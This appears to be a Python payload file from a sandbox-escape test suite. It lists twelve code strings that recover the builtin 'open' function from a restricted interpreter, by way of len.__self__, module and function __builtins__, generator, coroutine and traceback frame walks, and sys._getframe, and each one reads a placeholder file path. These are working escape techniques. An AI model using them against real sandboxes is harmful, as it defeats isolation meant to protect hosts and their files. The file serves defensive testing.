"""Builtins recovery, frame walks through generators, tracebacks."""

PAYLOADS = [
    ("len_self", "builtins_recovery", "read_file",
     "pwned = len.__self__.open(@S@).read()"),
    ("module_builtins", "builtins_recovery", "read_file",
     "import json\npwned = json.__builtins__['open'](@S@).read()"),
    ("catch_warnings_module", "builtins_recovery", "read_file",
     "import warnings\npwned = warnings.catch_warnings()._module.__builtins__['open'](@S@).read()"),
    ("capability_method_builtins", "builtins_recovery", "read_file",
     "pwned = files.read.__globals__['__builtins__']['open'](@S@).read()"),
    ("function_builtins", "builtins_recovery", "read_file",
     "f = lambda: 0\nb = f.__builtins__\n"
     "pwned = (b['open'] if isinstance(b, dict) else b.open)(@S@).read()"),
    ("generator_frame", "frame_walk_generators", "read_file",
     "def g():\n    yield it.gi_frame.f_back.f_back.f_builtins\nit = g()\nb = next(it)\n"
     "pwned = b['open'](@S@).read()"),
    ("coroutine_frame", "frame_walk_generators", "read_file",
     "async def c():\n    return co.cr_frame.f_back.f_back.f_builtins\nco = c()\n"
     "try:\n    co.send(None)\nexcept StopIteration as e:\n    b = e.value\n"
     "pwned = b['open'](@S@).read()"),
    ("async_generator_frame", "frame_walk_generators", "read_file",
     "async def ag():\n    yield a.ag_frame.f_back.f_back.f_builtins\na = ag()\n"
     "try:\n    a.asend(None).send(None)\nexcept StopIteration as e:\n    b = e.value\n"
     "pwned = b['open'](@S@).read()"),
    ("traceback_frame", "traceback_frames", "read_file",
     "try:\n    1/0\nexcept Exception as e:\n    b = e.__traceback__.tb_frame.f_back.f_builtins\n"
     "pwned = b['open'](@S@).read()"),
    ("host_traceback_globals", "traceback_frames", "read_file",
     "try:\n    files.read('../../nope')\nexcept Exception as e:\n    t = e.__traceback__\n"
     "    while t.tb_next:\n        t = t.tb_next\n    g = t.tb_frame.f_globals\n"
     "b = g['__builtins__']\npwned = (b['open'] if isinstance(b, dict) else b.open)(@S@).read()"),
    ("except_star_traceback", "traceback_frames", "read_file",
     "try:\n    raise ExceptionGroup('g', [ValueError(1)])\nexcept* ValueError as eg:\n"
     "    b = eg.__traceback__.tb_frame.f_back.f_builtins\npwned = b['open'](@S@).read()",
     (3, 11)),
    ("sys_getframe", "traceback_frames", "read_file",
     "import sys\nb = sys._getframe(1).f_builtins\npwned = b['open'](@S@).read()"),
]
